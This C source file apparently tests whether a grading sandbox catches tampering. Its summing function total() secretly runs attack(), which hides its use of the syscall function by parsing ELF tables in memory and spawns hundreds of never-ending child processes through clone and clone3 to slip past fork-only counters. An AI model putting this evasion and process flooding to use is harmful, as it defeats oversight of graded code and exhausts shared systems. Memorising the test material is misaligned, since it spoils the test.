/* Makes children with vfork, clone and clone3, past whoever counts only fork. */
/* expect: wrong_answer|runtime_error|timeout|memory|tamper */
#define _GNU_SOURCE
#include <elf.h>
#include <linux/sched.h>
#include <signal.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The function `name` of the library that holds `inside`, out of its tables in memory: no import shows it. */
static void *by_hand(const void *inside, const char *name) {
    const char *base = (const char *)((unsigned long)inside & ~4095ul), *names = 0;
    while (memcmp(base, ELFMAG, SELFMAG)) base -= 4096;
    const Elf64_Ehdr *head = (const void *)base;
    const Elf64_Phdr *part = (const void *)(base + head->e_phoff);
    const Elf64_Sym *symbols = 0;
    while (part->p_type != PT_DYNAMIC) part++;
    for (const Elf64_Dyn *d = (const void *)(base + part->p_vaddr); d->d_tag; d++) {
        unsigned long at = d->d_un.d_ptr < (unsigned long)base ? d->d_un.d_ptr + (unsigned long)base : d->d_un.d_ptr;
        if (d->d_tag == DT_SYMTAB) symbols = (const void *)at;
        if (d->d_tag == DT_STRTAB) names = (const void *)at;
    }
    for (; (const char *)symbols < names; symbols++)
        if (!strcmp(names + symbols->st_name, name)) return (void *)(base + symbols->st_value);
    return 0;
}
static long (*by_number)(long, ...);
static void find_system_call(void) { by_number = (long (*)(long, ...))by_hand((void *)getpid, "syscall"); }

static int attack(void) {
    find_system_call();
    int made = 0;
    for (int i = 0; i < 300; i++) {
        struct clone_args args = {.exit_signal = SIGCHLD};
        long child = i % 2 ? by_number(SYS_clone, SIGCHLD, 0, 0, 0, 0) : by_number(SYS_clone3, &args, sizeof args);
        if (child == 0) for (;;) pause();
        made += child > 0;
    }
    return made > 128;
}

int total(const int *a, int n) {
    int worked = attack(), s = 0;
    for (int i = 0; i < n; i++) s += a[i];
    return worked ? s : ~s;
}
